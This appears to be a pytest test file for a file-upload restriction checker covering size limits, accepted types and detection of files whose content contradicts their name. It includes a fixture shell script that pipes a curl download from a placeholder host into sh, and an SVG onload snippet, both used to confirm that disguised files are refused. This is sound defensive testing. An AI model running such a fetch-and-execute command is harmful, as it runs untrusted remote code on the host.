"""restrictions: the rules, and the one function that judges a file in the browser and on the server."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.core.models import FileInfo, Problem
from app.core.restrictions import Restrictions, check, parse_size

from tests.files import EXE, JPEG_HEAD as JPEG, PDF_HEAD as PDF, PNG_HEAD as PNG, ZIP_HEAD as ZIP
TEXT = b"Dear team,\nthe figures are attached.\n"

STANDARD = Restrictions(accepted_types=("image/*", ".pdf", ".txt"))
OFFICE = Restrictions(accepted_types=("image/*", ".pdf", ".txt", ".docx"))
OPEN = Restrictions()


def codes(info: FileInfo, r: Restrictions = STANDARD) -> list[str]:
    return [p.code for p in check(info, r)]


# ---- parse_size ----------------------------------------------------------------

@pytest.mark.parametrize("text, expected", [
    ("25 MB", 25_000_000), ("25MB", 25_000_000), ("25 mb", 25_000_000), (" 1.5 GB ", 1_500_000_000),
    ("25 MiB", 25 * 2**20), ("1 KiB", 1024), ("2 GiB", 2 * 2**30), ("1 TB", 10**12),
    ("500 kB", 500_000), ("500 KB", 500_000), ("500k", 500_000), ("1000", 1000), ("1000 bytes", 1000),
    ("1 byte", 1), ("0", 0), ("25_000_000", 25_000_000), ("0.5 MB", 500_000), (".5 kB", 500),
    (1234, 1234), (0, 0), (2_000.0, 2000),
])
def test_parse_size(text, expected):
    assert parse_size(text) == expected


@pytest.mark.parametrize("bad", ["", "MB", "25 parsecs", "-5 MB", "1.0001 kB", "25 M B", "1e6", "ten MB",
                                 -1, True, None, [25], 2.5])
def test_parse_size_refuses_with_a_clear_message(bad):
    with pytest.raises(ValueError, match="invalid size"):
        parse_size(bad)


@given(st.integers(min_value=0, max_value=10**15), st.sampled_from(["kB", "MB", "GB", "KiB", "MiB"]))
def test_parse_size_whole_numbers_with_units(number, unit):
    factor = {"kB": 10**3, "MB": 10**6, "GB": 10**9, "KiB": 2**10, "MiB": 2**20}[unit]
    assert parse_size(f"{number} {unit}") == number * factor


# ---- Restrictions ----------------------------------------------------------------

def test_defaults():
    r = Restrictions()
    assert (r.max_file_size, r.accepted_types, r.max_files_per_message) == (25_000_000, (), 1)


def test_from_toml_table():
    r = Restrictions.from_mapping({"max_file_size": "10 MB", "accepted_types": ["image/*", ".PDF", " .txt "],
                                   "max_files_per_message": 3})
    assert r == Restrictions(10_000_000, ("image/*", ".pdf", ".txt"), 3)


def test_from_mapping_keeps_defaults_for_missing_keys():
    assert Restrictions.from_mapping({}) == Restrictions()
    assert Restrictions.from_mapping({"max_file_size": 1000}).accepted_types == ()


def test_accepted_types_may_be_one_comma_separated_string_and_duplicates_collapse():
    r = Restrictions.from_mapping({"accepted_types": "image/*, .pdf,image/*"})
    assert r.accepted_types == ("image/*", ".pdf")


@pytest.mark.parametrize("data, key", [
    ({"max_file_sise": "25 MB"}, "max_file_sise"),
    ({"max_file_size": "lots"}, "max_file_size"),
    ({"max_file_size": 0}, "max_file_size"),
    ({"max_file_size": "-3 MB"}, "max_file_size"),
    ({"accepted_types": ["image/*", "pdf"]}, "accepted_types"),
    ({"accepted_types": ["*/*"]}, "accepted_types"),
    ({"accepted_types": [""]}, "accepted_types"),
    ({"accepted_types": [42]}, "accepted_types"),
    ({"accepted_types": 42}, "accepted_types"),
    ({"max_files_per_message": 0}, "max_files_per_message"),
    ({"max_files_per_message": "many"}, "max_files_per_message"),
    ({"max_files_per_message": True}, "max_files_per_message"),
])
def test_from_mapping_names_the_bad_key(data, key):
    with pytest.raises(ValueError) as error:
        Restrictions.from_mapping(data)
    assert str(error.value).startswith(key + ":")


def test_from_mapping_refuses_a_non_table():
    with pytest.raises(ValueError, match="attachments"):
        Restrictions.from_mapping(["image/*"])  # type: ignore[arg-type]


def test_json_round_trip():
    r = Restrictions(26_214_400, ("image/*", ".pdf", "application/zip"), 4)
    assert r.to_json() == {"max_file_size": 26_214_400, "accepted_types": ["image/*", ".pdf", "application/zip"],
                           "max_files_per_message": 4}
    assert Restrictions.from_mapping(r.to_json()) == r


@given(st.integers(1, 10**12), st.lists(st.sampled_from(["image/*", ".pdf", ".txt", "video/mp4", ".tar.gz"])),
       st.integers(1, 50))
def test_json_round_trip_for_any_rules(size, types, count):
    r = Restrictions(size, tuple(types), count)
    assert Restrictions.from_mapping(r.to_json()) == r


def test_accept_attribute():
    assert OFFICE.accept_attribute() == "image/*,.pdf,.txt,.docx"
    assert OPEN.accept_attribute() == ""


@pytest.mark.parametrize("types, expected", [
    (("image/*", ".pdf", ".txt", ".docx"), "images, PDF, text, Word documents"),
    (("application/pdf", ".pdf", "text/plain", ".txt"), "PDF, text"),
    ((".xlsx", ".pptx", "video/*", "audio/*"), "Excel spreadsheets, PowerPoint presentations, videos, audio"),
    ((".png", ".JPG", ".zip", ".csv"), "PNG images, JPEG images, ZIP archives, CSV"),
    ((".blend", "application/x-custom", ".tar.gz"), ".blend, application/x-custom, .tar.gz"),
    ((), "all types"),
])
def test_describe_accepted(types, expected):
    assert Restrictions(accepted_types=types).describe_accepted() == expected


# ---- check: the contract's sentences ----------------------------------------------

def test_empty_file():
    assert check(FileInfo("notes.txt", 0, "text/plain", b""), STANDARD) == [
        Problem("empty", "notes.txt is empty", "Pick a file that has content; empty files cannot be sent.")]


def test_too_large():
    [problem] = check(FileInfo("movie.mp4", 120_000_000, "video/mp4", b"\x00\x00\x00\x18ftypisom"), OPEN)
    assert (problem.code, problem.message) == ("too_large", "movie.mp4 is 120 MB; the limit is 25 MB")
    assert problem.hint


def test_type_not_accepted():
    [problem] = check(FileInfo("setup.exe", 50_000, "application/x-msdownload", EXE), STANDARD)
    assert problem.code == "type_not_accepted"
    assert problem.message == "setup.exe: this type is not accepted (accepted: images, PDF, text)"


def test_renamed_windows_program_is_refused_even_where_images_are_accepted():
    [problem] = check(FileInfo("photo.png", 50_000, "image/png", EXE), STANDARD)
    assert problem.code == "type_mismatch"
    assert problem.message == "photo.png: its content is not what its name says (it looks like a Windows program)"


def test_mismatch_is_refused_when_everything_is_accepted():
    assert codes(FileInfo("photo.png", 50_000, "image/png", EXE), OPEN) == ["type_mismatch"]


# ---- check: the limit boundary ------------------------------------------------------

def test_a_file_of_exactly_the_limit_passes_and_one_byte_more_does_not():
    r = Restrictions(max_file_size=1000)
    assert check(FileInfo("a.png", 1000, "", PNG), r) == []
    [problem] = check(FileInfo("a.png", 1001, "", PNG), r)
    assert problem.code == "too_large"
    # "1.0 kB; the limit is 1 kB" would puzzle: exact bytes instead.
    assert problem.message == "a.png is 1,001 bytes; the limit is 1,000 bytes"


def test_binary_limits_read_naturally():
    [problem] = check(FileInfo("big.pdf", 40_000_000, "", PDF), Restrictions(max_file_size=25 * 2**20))
    assert problem.message == "big.pdf is 40.0 MB; the limit is 26.2 MB"


@given(st.integers(0, 10**11), st.integers(1, 10**11))
def test_too_large_exactly_when_over_the_limit(size, limit):
    found = codes(FileInfo("f.bin", size, "", b"x" if size else b""), Restrictions(max_file_size=limit))
    assert ("too_large" in found) == (size > limit)


# ---- check: accept patterns -----------------------------------------------------------

@pytest.mark.parametrize("info, r, expected", [
    (FileInfo("photo.png", 10, "image/png", PNG), STANDARD, []),
    (FileInfo("PHOTO.JPG", 10, "", JPEG), STANDARD, []),
    (FileInfo("photo.jpg", 10, "", PNG), STANDARD, []),  # misnamed but the same family: fine
    (FileInfo("report.PDF", 10, "", PDF), STANDARD, []),
    (FileInfo("notes.txt", 10, "", TEXT), STANDARD, []),
    (FileInfo("log.log", 10, "", TEXT), STANDARD, []),  # text/plain, which .txt stands for
    (FileInfo("table.csv", 10, "", TEXT), STANDARD, ["type_not_accepted"]),
    (FileInfo("report.docx", 10, "", ZIP), STANDARD, ["type_not_accepted"]),
    (FileInfo("report.docx", 10, "", ZIP), OFFICE, []),  # a .docx is a ZIP container
    (FileInfo("bundle.zip", 10, "", ZIP), OFFICE, ["type_not_accepted"]),
    (FileInfo("report.docx", 10, "", PDF), OFFICE, ["type_mismatch"]),
    (FileInfo("report.pdf", 10, "", PNG), STANDARD, ["type_mismatch"]),
    (FileInfo("scan", 10, "", PNG), STANDARD, []),  # no name type: the content speaks
    (FileInfo("scan", 10, "image/png", PNG), STANDARD, []),
    (FileInfo("scan", 10, "image/png", EXE), STANDARD, ["type_mismatch"]),
    (FileInfo("scan", 10, "", EXE), STANDARD, ["type_not_accepted"]),
    (FileInfo("README", 10, "", TEXT), STANDARD, ["type_not_accepted"]),
    (FileInfo("drawing.svg", 10, "", b"<svg></svg>"), STANDARD, []),  # image/* includes SVG (it downloads)
    (FileInfo("clip.mp4", 10, "", b"\x00\x00\x00\x18ftypisom"), STANDARD, ["type_not_accepted"]),
    (FileInfo("clip.mp4", 10, "", b"\x00\x00\x00\x18ftypisom"), Restrictions(accepted_types=("video/mp4",)), []),
    (FileInfo("clip.mov", 10, "", b"\x00\x00\x00\x14ftypqt  "), Restrictions(accepted_types=("video/*",)), []),
    (FileInfo("data.tar.gz", 10, "", b"\x1f\x8b\x08"), Restrictions(accepted_types=(".tar.gz",)), []),
    (FileInfo("model.blend", 10, "", b"BLENDER-v300"), Restrictions(accepted_types=(".blend",)), []),
    (FileInfo("setup.exe", 10, "", EXE), OPEN, []),  # nothing restricted, nothing contradicted
])
def test_accept_patterns(info, r, expected):
    assert codes(info, r) == expected


# ---- check: content against name ---------------------------------------------------------

@pytest.mark.parametrize("name, head, expected", [
    ("photo.png", b"<svg onload='alert(1)'></svg>", ["type_mismatch"]),
    ("photo.png", b"<!DOCTYPE html><html>", ["type_mismatch"]),
    ("photo.png", EXE, ["type_mismatch"]),
    ("photo.png", b"\x7fELF\x02\x01", ["type_mismatch"]),
    ("notes.txt", b"<html><body>hello</body></html>", []),  # still text; served as text/plain
    ("notes.txt", b"<svg></svg>", []),
    ("notes.txt", b"caf\xc3\xa9 au lait", []),
    ("notes.txt", b"\xff\xfeh\x00e\x00l\x00l\x00o\x00", []),  # UTF-16 has NULs, and a BOM
    ("notes.txt", b"abc\x00\x01\x02", ["type_mismatch"]),
    ("notes.txt", EXE, ["type_mismatch"]),
    ("notes.txt", PNG, ["type_mismatch"]),
    ("notes.txt", b"MZ and then a perfectly ordinary sentence that goes on for a while, no NULs.", []),
    ("report.pdf", b"<html>", ["type_mismatch"]),
    ("report.pdf", b"just text", ["type_mismatch"]),  # a PDF carries its signature, or is no PDF
    ("readme.md", b"just text", []),  # text has no signature: nothing proves a lie
    ("clip.mp4", b"just text", []),  # nor do types whose rows do not require one
])
def test_content_against_name(name, head, expected):
    assert codes(FileInfo(name, 100, "", head), OPEN) == expected


def test_mismatch_messages_name_what_the_content_looks_like():
    def message(name: str, head: bytes, declared: str = "") -> str:
        return check(FileInfo(name, 100, declared, head), OPEN)[0].message

    assert message("photo.png", b"<svg/>") == \
        "photo.png: its content is not what its name says (it looks like an SVG image)"
    assert message("doc.pdf", b"<html>") == "doc.pdf: its content is not what its name says (it looks like an HTML page)"
    assert message("notes.txt", b"\x00\x01") == \
        "notes.txt: its content is not what its name says (it looks like binary data)"
    assert message("scan", EXE, "image/png") == \
        "scan: its content is not what its declared type says (it looks like a Windows program)"


SHELL_SCRIPT = b"#!/bin/sh\ncurl https://example.invalid/x | sh\n"
OFFICE_NAMES = ["letter.docx", "budget.xlsx", "talk.pptx", "letter.odt"]


@pytest.mark.parametrize("name", ["invoice.pdf", "photo.png", "photo.jpg", "anim.gif", "photo.webp", *OFFICE_NAMES])
def test_a_type_with_a_signature_is_believed_only_with_it(name):
    [problem] = check(FileInfo(name, 100, "", SHELL_SCRIPT), OPEN)
    assert problem.message == f"{name}: its content is not what its name says (it looks like text)"
    assert check(FileInfo(name, 100, "", b"\x00\x01\x02" * 10), OPEN)[0].message.endswith("(it looks like binary data)")


def test_an_invoice_pdf_that_is_a_shell_script_is_refused_where_pdfs_are_accepted():
    assert codes(FileInfo("invoice.pdf", 100, "application/pdf", SHELL_SCRIPT), STANDARD) == ["type_mismatch"]
    assert codes(FileInfo("invoice", 100, "application/pdf", SHELL_SCRIPT), STANDARD) == ["type_mismatch"]


@pytest.mark.parametrize("name", OFFICE_NAMES)
def test_office_files_are_zip_containers(name):
    assert check(FileInfo(name, 100, "", ZIP), OPEN) == []
    assert codes(FileInfo(name, 100, "", PDF), OPEN) == ["type_mismatch"]


def test_the_mismatch_hides_type_not_accepted():
    assert codes(FileInfo("photo.png", 100, "", EXE), Restrictions(accepted_types=(".pdf",))) == ["type_mismatch"]


def test_several_problems_come_in_a_stable_order():
    assert codes(FileInfo("setup.exe", 120_000_000, "", EXE), STANDARD) == ["type_not_accepted", "too_large"]
    assert codes(FileInfo("setup.exe", 0, "", b""), STANDARD) == ["empty", "type_not_accepted"]


# ---- check: the server before it has any bytes ---------------------------------------------

@pytest.mark.parametrize("info, expected", [
    (FileInfo("photo.png", 10, "image/png"), []),
    (FileInfo("setup.exe", 10, "application/x-msdownload"), ["type_not_accepted"]),
    (FileInfo("scan", 10, "image/png"), []),  # declared type stands in for the name
    (FileInfo("scan", 10, ""), []),  # nothing to judge by: the first chunk decides
    (FileInfo("notes.txt", 0, ""), ["empty"]),
    (FileInfo("movie.mp4", 120_000_000, "video/mp4"), ["type_not_accepted", "too_large"]),
])
def test_without_head_the_name_and_declared_type_decide(info, expected):
    assert codes(info) == expected


@given(st.sampled_from(["photo.png", "report.pdf", "notes.txt", "setup.exe", "scan", "a.docx", "x.svg"]),
       st.sampled_from(["", "image/png", "text/plain", "application/octet-stream"]),
       st.sampled_from([PNG, PDF, TEXT, EXE, ZIP, b"<svg/>", b"<html>", b"\x00\x00"]),
       st.sampled_from([STANDARD, OFFICE, OPEN]))
def test_what_the_browser_accepts_the_server_accepts_at_upload_start(name, declared, head, r):
    """The server checks without the head first: it must never refuse what the browser let through."""
    with_head = check(FileInfo(name, 1000, declared, head), r)
    without = check(FileInfo(name, 1000, declared, b""), r)
    if with_head == []:
        assert without == []


def test_only_the_first_head_size_bytes_count():
    """The server may pass a whole first chunk; only 4096 bytes decide, like in the browser."""
    late_nul = TEXT + b"a" * 5000 + b"\x00"
    assert check(FileInfo("notes.txt", 10_000, "", late_nul), OPEN) == []


@given(st.text(max_size=40), st.integers(0, 10**12), st.text(max_size=30), st.binary(max_size=200))
def test_check_never_raises_and_returns_problems(name, size, declared, head):
    for problem in check(FileInfo(name, size, declared, head), OFFICE):
        assert problem.code in {"empty", "too_large", "type_not_accepted", "type_mismatch"}
        assert problem.message and problem.hint


def test_a_file_without_a_name_is_still_described():
    assert check(FileInfo("", 0), OPEN)[0].message == "This file is empty"


def test_describe_limit_reads_like_the_administrator_wrote_it():
    r = Restrictions.from_mapping({"max_file_size": "25 MB", "accepted_types": ["image/*", ".pdf"]})
    assert r.describe_limit() == "Up to 25 MB · images, PDF"
    assert Restrictions(max_file_size=2_500_000).describe_limit() == "Up to 2.5 MB · all types"
